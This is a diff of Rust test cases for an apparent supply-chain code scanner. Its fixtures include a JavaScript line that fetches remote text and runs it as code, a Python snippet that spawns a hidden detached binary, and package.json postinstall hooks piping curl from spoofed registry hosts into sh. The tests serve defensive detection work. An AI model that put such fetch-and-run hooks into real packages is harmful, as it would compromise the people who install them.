@@ -199,3 +199,25 @@ fn a_constructor_that_is_handed_to_who_calls_it_runs() {
     let code = "fetch('https://a.invalid/x').then(r => r.text()).then((() => {}).constructor).then(f => f());\n";
     assert_eq!(screened(&[("main.js", code.as_bytes())]).verdict, Verdict::Block);
 }
+
+#[test]
+fn what_size_makes_doubtful_is_never_no_findings() {
+    let child = "import subprocess\nsubprocess.Popen(['/tmp/.hid', 'a'], start_new_session=True)\n";
+    let outcome = among_many(&[("pkg/a.py", child)]);
+    assert_eq!(outcome.verdict, Verdict::Incomplete);
+    assert!(outcome.findings.iter().any(|f| f.rule.id == "detached-child"));
+    assert!(outcome.missed.iter().any(|m| m.file == "pkg/a.py"));
+}
+
+#[test]
+fn a_registry_is_told_by_its_host() {
+    let of = |url: &str| {
+        let text = format!(r#"{{"name": "a", "scripts": {{"postinstall": "curl {url} | sh"}}}}"#);
+        screened(&[("package.json", text.as_bytes())])
+    };
+    for url in ["https://registry.npmjs.org@a.invalid/x", "https://registry.npmjs.org.a.invalid/x"]
+    {
+        assert_eq!(of(url).verdict, Verdict::Block, "{url}");
+    }
+    assert_eq!(of("https://registry.npmjs.org/x").verdict, Verdict::Review);
+}
